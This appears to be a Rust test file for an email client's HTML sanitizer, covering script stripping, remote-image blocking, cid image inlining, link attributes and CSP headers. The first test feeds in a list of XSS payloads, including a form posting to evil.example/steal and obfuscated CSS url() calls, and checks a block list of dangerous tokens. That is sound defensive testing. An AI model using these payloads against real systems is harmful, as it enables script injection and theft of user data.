use super::*;

fn clean(raw: &str, remote: bool) -> (String, bool) {
    let mut inline = HashMap::new();
    inline.insert(
        "logo@x".to_string(),
        "data:image/png;base64,iVBORw0KGgo=".to_string(),
    );
    sanitize(raw, &Arc::new(inline), remote)
}

#[test]
fn scripts_and_handlers_are_removed() {
    let hostile = r#"<p onclick="alert(1)" onmouseover=alert(2)>hi</p>
<script>alert(3)</script><img src=x onerror=alert(4)>
<a href="javascript:alert(5)">j</a><a href=" JaVaScRiPt:alert(6)">k</a>
<a href="vbscript:x">v</a><a href="data:text/html,<script>alert(7)</script>">d</a>
<form action="https://evil.example/steal"><input name=p><button>go</button></form>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/x.css">
<svg onload="alert(8)"><script>alert(9)</script><a xlink:href="javascript:alert(10)">s</a></svg>
<math><mtext><script>alert(11)</script></mtext></math>
<iframe src="https://evil.example/"></iframe><object data="x.swf"></object><embed src="x">
<style>body{background:url(https://evil.example/s.png)}</style>
<div style="background-image:url('https://evil.example/t.png');color:red">t</div>
<div style="width:expression(alert(12))">e</div>
<div style="background:u\72l(https://evil.example/u.png)">u</div>"#;
    let (out, blocked) = clean(hostile, false);
    let lower = out.to_ascii_lowercase();
    for bad in [
        "script",
        "onclick",
        "onmouseover",
        "onerror",
        "onload",
        "javascript",
        "vbscript",
        "data:text",
        "<form",
        "<input",
        "<button",
        "<meta",
        "refresh",
        "<base",
        "<link",
        "<svg",
        "<math",
        "<iframe",
        "<object",
        "<embed",
        "<style",
        "url(",
        "expression",
        "evil.example",
        "alert",
    ] {
        assert!(!lower.contains(bad), "{bad} survived in {out}");
    }
    assert!(out.contains("color:red"), "{out}");
    assert!(out.contains(">hi</p>"));
    assert!(blocked, "remote CSS was blocked");
}

#[test]
fn remote_images_wait_for_the_recipients_choice() {
    let raw = r#"<img src="https://tracker.example/p.gif" alt="pixel"><img src="http://x.example/a.png">"#;
    let (out, blocked) = clean(raw, false);
    assert!(blocked);
    assert!(
        !out.contains("tracker.example") && !out.contains("x.example"),
        "{out}"
    );
    assert!(out.contains("alt=\"pixel\""));
    let (out, blocked) = clean(raw, true);
    assert!(!blocked);
    assert!(
        out.contains("https://tracker.example/p.gif") && out.contains("http://x.example/a.png")
    );
    // Protocol-relative and relative sources never load.
    let (out, _) = clean(r#"<img src="//x.example/a.png"><img src="a.png">"#, true);
    assert!(!out.contains("a.png"), "{out}");
    // Nothing remote: nothing to offer.
    assert_eq!(
        clean("<p>plain</p>", false),
        ("<p>plain</p>".to_string(), false)
    );
}

#[test]
fn cid_images_become_data_urls() {
    let (out, blocked) = clean(
        r#"<img src="cid:logo@x"><img src="CID:logo%40x"><img src="cid:none">"#,
        false,
    );
    assert_eq!(
        out.matches("data:image/png;base64,iVBORw0KGgo=").count(),
        2,
        "{out}"
    );
    assert!(!out.contains("cid:"), "{out}");
    assert!(!blocked);
    let (out, _) = clean(
        r#"<img src="data:image/png;base64,AAAA"><img src="data:image/svg+xml,<svg/>">"#,
        false,
    );
    assert!(
        out.contains("data:image/png;base64,AAAA") && !out.contains("svg"),
        "{out}"
    );
}

#[test]
fn links_open_elsewhere_without_referrer() {
    let (out, _) = clean(
        r#"<a href="https://example.com/x">x</a><a href="mailto:a@b.c">m</a><a href="ftp://f">f</a>"#,
        false,
    );
    assert!(out.contains(r#"href="https://example.com/x""#), "{out}");
    assert!(
        out.contains("noopener noreferrer") && out.contains(r#"target="_blank""#),
        "{out}"
    );
    assert!(
        out.contains("mailto:a@b.c") && !out.contains("ftp:"),
        "{out}"
    );
}

#[test]
fn the_document_carries_the_csp_and_copy_rules() {
    let inline = Arc::new(HashMap::new());
    let d = html_document("<p>x</p>", &inline, RenderOptions::default());
    assert!(d.document.contains("default-src 'none'; img-src data:;"));
    assert!(d.document.contains("user-select:none"));
    let d = html_document(
        "<p>x</p>",
        &inline,
        RenderOptions {
            allow_remote_images: true,
            allow_copy: true,
        },
    );
    assert!(d.document.contains("img-src data: http: https:"));
    assert!(!d.document.contains("user-select:none"));
    assert_eq!(percent_decode("a%40b%zz%4"), "a@b%zz%4");
    assert_eq!(percent_decode("é%41"), "éA");
}
